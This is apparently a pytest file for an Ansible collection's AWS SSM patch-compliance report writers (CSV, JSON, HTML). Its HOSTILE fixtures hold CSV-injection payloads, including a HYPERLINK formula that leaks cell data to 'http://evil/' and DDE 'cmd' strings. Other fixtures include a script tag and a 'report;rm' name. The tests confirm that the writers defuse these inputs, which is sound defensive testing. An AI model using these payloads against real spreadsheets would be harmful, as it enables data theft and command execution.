"""Report writers: AWS's CSV columns, JSON that parses, an HTML page that needs nothing online."""

import csv
import io
import json
import re

import pytest

from ansible_collections.cloudpatch.ssm.plugins.module_utils._compliance.common import DashboardCounts
from ansible_collections.cloudpatch.ssm.plugins.module_utils._compliance.report import DETAIL_COLUMNS
from ansible_collections.cloudpatch.ssm.plugins.module_utils._compliance.report import SUMMARY_COLUMNS
from ansible_collections.cloudpatch.ssm.plugins.module_utils._compliance.report import detail_row
from ansible_collections.cloudpatch.ssm.plugins.module_utils._compliance.report import report_writer
from ansible_collections.cloudpatch.ssm.plugins.module_utils._compliance.report import validate_report_name

META = {"report_name": "ssm-workshop", "generated_at": "2026-11-30T12:00:00Z", "scope": "all nodes", "region": "us-east-1"}


def row(index, status="NON_COMPLIANT", name="App1"):
    reported = status != "NEVER_REPORTED"
    return {
        "instance_id": f"i-{index:017x}", "name": name, "ip_address": "10.0.0.1", "computer_name": None, "resource_type": "EC2Instance",
        "ping_status": "Online", "platform_type": "Linux", "platform_name": "Amazon Linux", "platform_version": "2", "agent_version": "3.3.1",
        "patch_group": "App" if reported else None, "baseline_id": "pb-0123456789abcdef0" if reported else None, "status": status,
        "severity": "CRITICAL" if status == "NON_COMPLIANT" else None,
        "non_compliant_counts": {"critical": 2, "high": 0, "medium": 1, "low": 0, "informational": 0, "unspecified": 0} if reported else None,
        "patch_counts": {"installed": 1, "installed_other": 0, "installed_pending_reboot": 0, "installed_rejected": 0, "missing": 3,
                         "failed": 0, "not_applicable": 0} if reported else None,
        "last_operation": "Scan" if reported else None, "last_report_time": "2026-11-30T11:00:00Z" if reported else None,
        "reporting_age": "within" if reported else "never",
    }


def write(fmt, rows, details=None, **options):
    stream = io.StringIO()
    writer = report_writer(fmt, stream, META, **options)
    counts = DashboardCounts()
    for item in rows:
        writer.node(item)
        counts.add(item)
    if details is not None:
        writer.details(rows[-1], details)
    writer.close(counts.as_dict())
    return stream.getvalue()


@pytest.mark.parametrize("name", ["ssm-workshop", "a", "A.b_c-d", "x" * 50, "report2026", "app1-patches", "fleet-2026-11-30", "2026"])
def test_valid_report_names(name):
    assert validate_report_name(name) is None


@pytest.mark.parametrize("name", ["", "x" * 51, "report 1", "r/eport", "rapport-é", "report\n", "report\r\n", "\nreport",
                                  "report.csv\x00", "report;rm", "report\t", None])
def test_invalid_report_names(name):
    assert "report_name must be" in validate_report_name(name)


def test_csv_all_nodes_columns_and_cells():
    rows = list(csv.reader(io.StringIO(write("csv", [row(1), row(2, "NEVER_REPORTED", "Web1")]))))
    assert rows[0] == list(SUMMARY_COLUMNS) and len(SUMMARY_COLUMNS) == 17
    assert rows[1] == ["1", "i-00000000000000001", "App1", "10.0.0.1", "Amazon Linux", "2", "3.3.1", "pb-0123456789abcdef0", "App",
                       "NON_COMPLIANT", "CRITICAL", "2", "0", "1", "0", "0", "0"]
    assert rows[2] == ["2", "i-00000000000000002", "Web1", "10.0.0.1", "Amazon Linux", "2", "3.3.1", "", "", "NEVER_REPORTED", ""] + [""] * 6


def test_csv_single_node_details():
    item = {"Id": "ALAS2-2026-001", "Title": "kernel.x86_64:0:5.10.1-1.amzn2", "Status": "NON_COMPLIANT", "Severity": "CRITICAL",
            "ExecutionSummary": {"ExecutionTime": "2026-11-30T11:00:00Z", "ExecutionId": "c-1", "ExecutionType": "Command"},
            "Details": {"PatchState": "Missing", "PatchSeverity": "Important", "Classification": "Security", "CVEIds": "CVE-2026-1",
                        "PatchBaselineId": "pb-0123456789abcdef0"}}
    node = row(1)
    rows = list(csv.reader(io.StringIO(write("csv", [node], [detail_row(node, item, "s3://logs/c-1/i-1/stdout")]))))
    assert rows[2] == [] and rows[3] == list(DETAIL_COLUMNS) and len(DETAIL_COLUMNS) == 17
    assert rows[4] == ["1", "i-00000000000000001", "App1", "kernel.x86_64:0:5.10.1-1.amzn2", "ALAS2-2026-001", "Missing",
                       "2026-11-30T11:00:00Z", "CRITICAL", "Important", "Security", "CVE-2026-1", "pb-0123456789abcdef0",
                       "s3://logs/c-1/i-1/stdout", "10.0.0.1", "Amazon Linux", "2", "3.3.1"]


HOSTILE = ("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1")


def hostile_row(value):
    node = row(1, name=value)
    node.update(ip_address=value, platform_name=value, platform_version=value, agent_version=value, patch_group=value,
                baseline_id=value, severity=value)
    return node


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_defuses_formulas_in_every_cell_from_node_data(value):
    rows = list(csv.reader(io.StringIO(write("csv", [hostile_row(value)]))))
    cells = rows[1]
    # Index, id and status are ours or AWS's fixed words; every text cell from data starts with a quote.
    assert cells[2:9] == ["'" + value] * 7 and cells[10] == "'" + value
    # Our own numbers are written as they are.
    assert cells[0] == "1" and cells[11:17] == ["2", "0", "1", "0", "0", "0"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_defuses_formulas_in_patch_details(value):
    item = {"Id": value, "Title": value, "Severity": value, "ExecutionSummary": {"ExecutionTime": value},
            "Details": {"PatchState": value, "PatchSeverity": value, "Classification": value, "CVEIds": value,
                        "PatchBaselineId": value}}
    node = hostile_row(value)
    rows = list(csv.reader(io.StringIO(write("csv", [node], [detail_row(node, item, value)]))))
    detail = rows[4]
    assert detail[0] == "1" and detail[1] == node["instance_id"]
    assert detail[2:] == ["'" + value] * 15


def test_csv_leaves_harmless_values_and_our_numbers_alone():
    node = row(1, name="App-1 = web")  # an '=' or '-' inside a value is no formula
    node["non_compliant_counts"] = {"critical": 0, "high": 0, "medium": 0, "low": 0, "informational": 0, "unspecified": 0}
    cells = list(csv.reader(io.StringIO(write("csv", [node]))))[1]
    assert cells[2] == "App-1 = web" and cells[11:17] == ["0"] * 6


def test_csv_formula_escaping_can_be_turned_off_and_json_carries_raw_values():
    value = "=1+1"
    raw = list(csv.reader(io.StringIO(write("csv", [hostile_row(value)], csv_escape_formulas=False))))[1]
    assert raw[2] == value
    document = json.loads(write("json", [hostile_row(value)]))
    assert document["nodes"][0]["name"] == value


def test_json_parses_with_rows_and_dashboard():
    document = json.loads(write("json", [row(1), row(2, "COMPLIANT")]))
    assert document["report"]["report_name"] == "ssm-workshop"
    assert [item["status"] for item in document["nodes"]] == ["NON_COMPLIANT", "COMPLIANT"]
    assert document["dashboard"]["compliance_summary"]["compliant"] == 1
    assert json.loads(write("json", []))["nodes"] == []
    assert json.loads(write("json", [row(1)], []))["patches"] == []


def test_html_is_self_contained_and_carries_the_numbers():
    page = write("html", [row(1), row(2, "COMPLIANT"), row(3, "NEVER_REPORTED", "<script>x</script>")])
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert not re.search(r'(src|href)=|url\(|@import|https?://', page)
    assert 'id="compliance-critical_non_compliant" data-count="1"' in page
    assert 'id="states-managed_nodes" data-count="3"' in page
    assert 'id="age-never_reported" data-count="1"' in page
    assert page.count("<tr data-node=") == 3 and page.rstrip().endswith("</html>")
